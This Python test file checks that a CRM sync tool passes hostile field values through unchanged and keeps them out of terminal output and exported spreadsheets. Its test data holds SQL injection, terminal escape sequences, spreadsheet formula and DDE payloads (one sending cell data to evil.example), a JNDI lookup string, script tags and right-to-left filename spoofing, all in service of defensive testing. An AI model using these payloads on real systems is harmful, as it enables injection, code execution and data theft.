"""Whatever people and machines put into a field passes through a sync unharmed, and harms nobody who looks at it."""

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from bigin_sync.clock import SystemClock
from bigin_sync.emulator.door import mock_transport
from bigin_sync.emulator.serve import Serving
from bigin_sync.emulator.world import World
from tests.contract.shell import Shell
from tests.flow.two_orgs import contacts, two_orgs

HOSTILE = {
    "sql": "Robert'); DROP TABLE link;-- \" ` \\",
    "screen": "\x1b[2J\x1b]0;owned\x07\x08\x9b31m red",
    "null": "before\0after",
    "markup": "[bold red]not red[/] [link=https://evil.example]here[/link] :bomb:",
    "formula": '=HYPERLINK("https://evil.example?x="&A1;"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 é e\u0301",
    "right to left": "abc\u202egnp.exe שלום مرحبا \u2066\u200b",
    "braces": "{0.__class__} %s %n ${jndi:ldap://evil.example}",
    "html": "<script>alert(1)</script> &lt;b&gt;",
    "lines": "one\ntwo\u2028three\x85four",
}
LONG = "Ein langer Satz, 👋 ungewöhnlich. " * 1900
"""Some 64 thousand characters."""
SHORT_ENOUGH = ("Title", "Mailing_City", "Last_Name", "Description")
MOVES = {*map(chr, range(0x20)), "\x7f", *map(chr, range(0x80, 0xA0)), *"\u202a\u202b\u202c\u202d\u202e"} - {"\n"}
"""Characters that move the cursor, colour the screen, or turn the direction of what follows."""


def people() -> list[dict[str, object]]:
    """One person for each text, who has it in every field."""
    return [
        {**dict.fromkeys(SHORT_ENOUGH, text), "Email": f"{number}@people.example"}
        for number, text in enumerate(HOSTILE.values())
    ]


@pytest.fixture
def world() -> World:
    """Two orgs of this test alone; each has half the people, and one a long note on the first of them."""
    world = World.default(SystemClock())
    some = people()
    ids = world.bigin.seed("Contacts", some[::2])
    world.crm.seed("Contacts", some[1::2])
    world.bigin.seed(
        "Notes", [{"Note_Title": "=1+1", "Note_Content": LONG, "Parent_Id": ids[0], "$se_module": "Contacts"}]
    )
    return world


@pytest.fixture
def emulator(world: World) -> Iterator[str]:
    """The URL of their emulator."""
    with Serving(world) as door:
        yield door.url


def test_hostile_texts_cross_unharmed_and_reach_neither_the_terminal_nor_a_spreadsheet(
    shell: Shell, world: World, tmp_path: Path
) -> None:
    for label in ("bigin", "crm"):
        assert shell.connect(label).code == 0
    said = []
    for words in (
        *(("module", "configure", "contacts"), ("plan", "--limit", "0"), ("module", "activate", "contacts"), ("sync",)),
        *(("module", "configure", "notes"), ("module", "activate", "notes"), ("sync",)),
        *(("status",), ("history",), ("history", "2"), ("why", "0@people.example"), ("conflicts", "list")),
    ):
        ran = shell.type(*words)
        assert ran.code == 0, (words, ran)
        said.append(ran.out + ran.err)
    for org in (world.bigin, world.crm):
        held = {str(row.values["Email"]): {name: row.values[name] for name in SHORT_ENOUGH} for row in contacts(org)}
        assert held == {str(one.pop("Email")): one for one in people()}
    assert [row.values["Note_Content"] for row in world.crm.tables["Notes"].rows.values()] == [LONG]
    assert [sorted(MOVES & set(text)) for text in said] == [[]] * len(said)
    assert json.loads(shell.type("sync", "--json").out)["state"] == "done"
    sheet = tmp_path / "run.csv"
    assert shell.type("history", "2", "--export", str(sheet)).code == 0
    with sheet.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in {*"=+-@\t\r\n"}] == []


def test_half_a_character_in_an_answer_stops_nothing() -> None:
    world = World.default(SystemClock())
    world.bigin.seed("Contacts", [{"Last_Name": "Cut HALF", "Email": "cut@people.example"}])
    orgs_answer = mock_transport(world)

    def cut(request: httpx.Request) -> httpx.Response:
        answer = orgs_answer.handle_request(request)
        content = answer.read().replace(b"HALF", rb"\ud83d")
        return httpx.Response(answer.status_code, headers={"Date": answer.headers["Date"]}, content=content)

    lines = {"bigin": httpx.MockTransport(cut), "crm": orgs_answer}
    with two_orgs(world, transports=lines) as orgs:
        assert orgs.sync().clean
        assert [row.values["Last_Name"] for row in contacts(world.crm)] == ["Cut \ufffd"]
        assert orgs.sync().writes == 0
    assert [row.values["Last_Name"] for row in contacts(world.bigin)] == ["Cut HALF"]
